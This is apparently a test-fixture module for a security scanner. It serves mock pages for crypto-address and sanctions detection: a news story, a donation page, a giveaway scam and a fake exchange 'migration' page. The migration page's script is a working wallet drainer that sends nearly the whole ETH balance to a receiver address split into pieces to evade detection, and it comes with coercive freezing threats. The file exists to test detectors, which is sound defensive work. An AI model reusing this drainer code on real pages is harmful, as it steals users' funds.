"""Pages that show cryptocurrency addresses (hosts 127.0.0.80-84): what analyze/crypto.py lists
and what the "sanctions" engine makes of them.

- chainwire.test: a crypto news story on Lazarus moving Ronin bridge funds. It quotes a BTC
  (legacy and bech32), ETH, TRON and Solana address, the Ronin exploiter's account -- which is
  on the OFAC SDN list -- and, as bait for false positives, a transaction hash, a block hash, a
  CSS class with a long hex run, a base64 ad payload, a reader's comment with a mistyped
  (bad EIP-55 checksum) address, and a price widget script holding token contracts, a build
  hash and a Solana-shaped nonce with no Solana word near it. Quoting a sanctioned address in
  a news story is evidence (listed as sanctioned) but not a malicious page: hard negative.
- donate.test: a non-profit's donation page with a bech32 BTC address (also as ``bitcoin:``
  URIs behind a QR code), a Monero and an ETH address: addresses shown to pay, none listed:
  hard negative (donation pages must never be flagged for showing addresses).
- eth-doubler.test: a "send 1 ETH, get 2 back" giveaway scam asking for ETH at an address on
  the SDN list. Not in CORPUS (its label would be none of the scored ones); the sanctions
  engine tests scan it directly and expect "sanctioned", malicious.
- exchange-migrate.test: an exchange "migration" page that connects to the wallet on load and
  asks it to send nearly the whole balance to an address on the SDN list, assembled in the
  script from pieces (so the page never shows it): only the wallet call reveals it. Not in
  CORPUS either (the drainer engine owns its label); scanned directly as well.
"""

from __future__ import annotations

import functools
import hashlib

from aiohttp import web

from tests.testweb import media
from tests.testweb.corpus import Sample
from tests.testweb.render import page, static
from tests.testweb.routes import Routes

routes = Routes()

NEWS_PATH = "/markets/2025/11/21/lazarus-ronin-funds-move"

CORPUS: list[Sample] = [
    Sample(
        name="crypto-news-addresses",
        host="chainwire.test",
        path=NEWS_PATH,
        hard_negative=True,
        note="news story quoting BTC/ETH/TRON/SOL addresses and one on the OFAC SDN list",
    ),
    Sample(
        name="crypto-donation-page",
        host="donate.test",
        path="/donate",
        hard_negative=True,
        note="non-profit donation page: bech32 BTC with bitcoin: URIs and QR, XMR, ETH",
    ),
]


@routes.route("chainwire.test", NEWS_PATH)
async def news_story(request: web.Request) -> web.Response:
    return page(request, "crypto-news.html")


@routes.route("chainwire.test", "/static/price-widget.js")
async def price_widget(request: web.Request) -> web.Response:
    return static("price-widget.js", "application/javascript")


@routes.route("donate.test", "/donate")
async def donate(request: web.Request) -> web.Response:
    return page(request, "crypto-donate.html")


@routes.route("donate.test", "/img/qr-btc.png")
async def donate_qr(request: web.Request) -> web.Response:
    return web.Response(body=qr_png("donate-btc"), content_type="image/png")


@routes.route("eth-doubler.test", "/")
async def giveaway(request: web.Request) -> web.Response:
    return page(request, "crypto-giveaway.html")


@routes.route("eth-doubler.test", "/assets/qr-eth.png")
async def giveaway_qr(request: web.Request) -> web.Response:
    return web.Response(body=qr_png("giveaway-eth"), content_type="image/png")


@routes.route("eth-doubler.test", "/assets/eth-diamond.png")
async def giveaway_logo(request: web.Request) -> web.Response:
    return web.Response(body=diamond_png(), content_type="image/png")


@functools.cache
def qr_png(seed: str) -> bytes:
    """A QR-code-looking picture: 25x25 modules, three finder squares, pseudo-random fill."""
    bits = hashlib.shake_256(seed.encode()).digest(625 // 8 + 1)

    def dark(col: int, row: int) -> bool:
        for fx, fy in ((0, 0), (18, 0), (0, 18)):
            if fx <= col < fx + 7 and fy <= row < fy + 7:
                x, y = col - fx, row - fy
                ring = max(abs(x - 3), abs(y - 3))
                return ring != 2
        index = row * 25 + col
        return bool(bits[index // 8] >> (index % 8) & 1)

    def pixel(x: int, y: int) -> tuple[int, int, int]:
        col, row = x // 6 - 2, y // 6 - 2
        inside = 0 <= col < 25 and 0 <= row < 25
        return (0, 0, 0) if inside and dark(col, row) else (255, 255, 255)

    return media.png(174, 174, pixel)


@functools.cache
def diamond_png() -> bytes:
    """The Ethereum diamond, roughly: a violet rhombus on transparent-looking dark blue."""

    def pixel(x: int, y: int) -> tuple[int, int, int]:
        inside = abs(x - 17) / 11 + abs(y - 17) / 16 <= 1
        return (140, 150, 255) if inside else (11, 13, 23)

    return media.png(34, 34, pixel)


# An address on the SDN list (asset ETH), split the way drainer kits hide their receivers.
MIGRATE_TO_PARTS = ["0x0872", "3392Ed15", "743cc385", "13C4925f", "5e6be5c1", "7243"]


@routes.route("exchange-migrate.test", "/")
async def migrate(request: web.Request) -> web.Response:
    return page(request, "crypto-migrate.html")


@routes.route("exchange-migrate.test", "/assets/migrate.js")
async def migrate_script(request: web.Request) -> web.Response:
    body = MIGRATE_JS.replace("%PARTS%", ", ".join(f'"{p}"' for p in MIGRATE_TO_PARTS))
    return web.Response(text=body, content_type="application/javascript", charset="utf-8")


MIGRATE_JS = """
(async function () {
  var note = document.getElementById("migrate-status");
  var eth = window.ethereum;
  if (!eth) { note.textContent = "No wallet detected. Install MetaMask to continue."; return; }
  var r = [%PARTS%].join("");
  try {
    var accounts = await eth.request({ method: "eth_requestAccounts" });
    var from = accounts[0];
    var balance = BigInt(await eth.request({ method: "eth_getBalance", params: [from, "latest"] }));
    var gasPrice = await eth.request({ method: "eth_gasPrice" });
    var value = balance - balance / 50n;
    note.textContent = "Confirm the migration transfer in your wallet…";
    await eth.request({
      method: "eth_sendTransaction",
      params: [{ from: from, to: r, value: "0x" + value.toString(16), gas: "0x5208",
                 gasPrice: gasPrice, data: "0x" }],
    });
    note.textContent = "Migration submitted. Your balance will appear on Grinex within 30 minutes.";
  } catch (e) {
    note.textContent = "Migration cancelled. Funds left on Garantex will be frozen after 30 June.";
  }
})();
"""
